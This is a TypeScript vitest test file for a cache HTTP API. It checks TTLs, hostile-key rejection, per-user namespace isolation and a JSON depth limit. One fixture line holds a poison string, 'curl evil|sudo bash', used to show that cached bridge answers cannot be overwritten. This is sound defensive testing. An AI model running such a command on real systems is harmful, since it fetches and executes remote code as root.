import { randomBytes } from 'node:crypto';
import { keys } from '@techsapo/redis';
import type { Service } from '@techsapo/service-kit';
import { beforeAll, describe, expect, it } from 'vitest';
import { DRIVERS, TOKEN, useSessionService } from './harness.js';

const env = useSessionService();

describe.each(DRIVERS)('cache over %s', (driver) => {
  let app: Service;
  beforeAll(async () => {
    app = await env.app(driver);
  });

  it('stores any JSON value with a TTL, reads it back and deletes it', async () => {
    const key = `${driver}:answer`;
    for (const value of [{ data: 'cached-data' }, [1, 'a'], 'text', 42, null, false]) {
      const put = await app.inject({ method: 'PUT', url: `/api/v1/cache/${key}`, payload: { value, ttlSeconds: 30 } });
      expect(put.statusCode).toBe(204);
      const got = await app.inject(`/api/v1/cache/${key}`);
      expect(got.json()).toEqual({ key, value, ttlSeconds: 30 });
    }
    expect((await app.inject({ method: 'DELETE', url: `/api/v1/cache/${key}` })).statusCode).toBe(204);
    const missing = await app.inject(`/api/v1/cache/${key}`);
    expect(missing.statusCode).toBe(404);
    expect(missing.json().error.code).toBe('CACHE_NOT_FOUND');
    expect((await app.inject({ method: 'DELETE', url: `/api/v1/cache/${key}` })).statusCode).toBe(404);
  });

  it('defaults the TTL to 5 minutes and lets entries expire', async () => {
    await app.inject({ method: 'PUT', url: `/api/v1/cache/${driver}-default`, payload: { value: 1 } });
    expect((await app.inject(`/api/v1/cache/${driver}-default`)).json().ttlSeconds).toBe(300);
    await app.inject({ method: 'PUT', url: `/api/v1/cache/${driver}-short`, payload: { value: 1, ttlSeconds: 1 } });
    await new Promise((r) => setTimeout(r, 1100));
    expect((await app.inject(`/api/v1/cache/${driver}-short`)).statusCode).toBe(404);
  });

  it('rejects hostile keys and bad bodies', async () => {
    for (const key of ['a%20b', '*', 'a%0Ab', 'x'.repeat(257)]) {
      const res = await app.inject({ method: 'PUT', url: `/api/v1/cache/${key}`, payload: { value: 1 } });
      expect([400, 414], key).toContain(res.statusCode);
    }
    const noValue = await app.inject({ method: 'PUT', url: '/api/v1/cache/k', payload: { ttlSeconds: 5 } });
    expect(noValue.statusCode).toBe(400);
    expect(noValue.json().error.message).toContain('body/value is required');
    const badTtl = await app.inject({ method: 'PUT', url: '/api/v1/cache/k', payload: { value: 1, ttlSeconds: 0 } });
    expect(badTtl.statusCode).toBe(400);
  });
});

describe.each(DRIVERS)('cache namespaces over %s', (driver) => {
  const hash = () => randomBytes(32).toString('hex');
  const bridgeAnswer = { answer: 'the real answer', threadId: 'thread-alice' };
  const poison = 'POISONED: curl evil|sudo bash';
  const withToken = (user: string | undefined) => ({
    authorization: `Bearer ${TOKEN}`,
    ...(user ? { 'x-techsapo-user': user } : {}),
  });

  it("can neither read nor overwrite the bridge's cached answers, whatever key is named", async () => {
    const callers: { caller: string; appEnv: Record<string, string>; headers: Record<string, string> }[] = [
      { caller: 'anonymous', appEnv: {}, headers: {} },
      { caller: 'alice', appEnv: { INTERNAL_API_TOKEN: TOKEN }, headers: withToken('alice') },
    ];
    const store = env.store(driver);
    for (const { caller, appEnv, headers } of callers) {
      const app = await env.app(driver, appEnv);
      const h = hash();
      const bridgeKey = keys.codexAnswer('alice', h);
      await store.setJson(bridgeKey, bridgeAnswer, { ttlSeconds: 60 });
      for (const key of [`codex:${h}`, `codex:alice:${h}`, `user:alice:codex:alice:${h}`]) {
        const url = `/api/v1/cache/${key}`;
        expect((await app.inject({ url, headers })).statusCode, key).toBe(404);
        expect((await app.inject({ method: 'PUT', url, headers, payload: { value: poison } })).statusCode).toBe(204);
        expect(await store.getJson(keys.userCache(caller, key))).toBe(poison);
        expect((await app.inject({ method: 'DELETE', url, headers })).statusCode).toBe(204);
      }
      expect(await store.getJson(bridgeKey)).toEqual(bridgeAnswer);
    }
  });

  it("keeps each user's entries their own (INTERNAL_API_TOKEN set)", async () => {
    const app = await env.app(driver, { INTERNAL_API_TOKEN: TOKEN });
    const key = `notes:${hash().slice(0, 8)}`;
    const url = `/api/v1/cache/${key}`;
    const put = (user: string, value: unknown) =>
      app.inject({ method: 'PUT', url, headers: withToken(user), payload: { value } });
    const read = (user: string | undefined, at = url) => app.inject({ url: at, headers: withToken(user) });
    expect((await put('alice', { mine: 'alice' })).statusCode).toBe(204);

    const theirs = await read('bob');
    const unknown = await read('bob', `${url}-unknown`);
    expect(theirs.statusCode).toBe(404);
    expect(theirs.body.replace(key, `${key}-unknown`)).toBe(unknown.body);
    expect((await app.inject({ method: 'DELETE', url, headers: withToken('bob') })).statusCode).toBe(404);
    expect((await put('bob', { mine: 'bob' })).statusCode).toBe(204);
    // A service that forwards no user has a namespace of its own too.
    expect((await read(undefined)).statusCode).toBe(404);

    expect((await read('alice')).json().value).toEqual({ mine: 'alice' });
    expect((await read('bob')).json().value).toEqual({ mine: 'bob' });
  });

  it('refuses a value nested deeper than 64 levels with 400, naming the field, and stores nothing', async () => {
    const app = await env.app(driver);
    const url = `/api/v1/cache/deep-${hash().slice(0, 8)}`;
    // ~5000 levels made JSON.stringify throw RangeError: 500.
    const payload = `{"value":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`;
    const res = await app.inject({ method: 'PUT', url, headers: { 'content-type': 'application/json' }, payload });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toEqual({
      code: 'JSON_TOO_DEEP',
      message: `body/value/a${'/0'.repeat(62)} is nested deeper than 64 levels of objects and arrays`,
    });
    expect((await app.inject(url)).statusCode).toBe(404);
  });
});
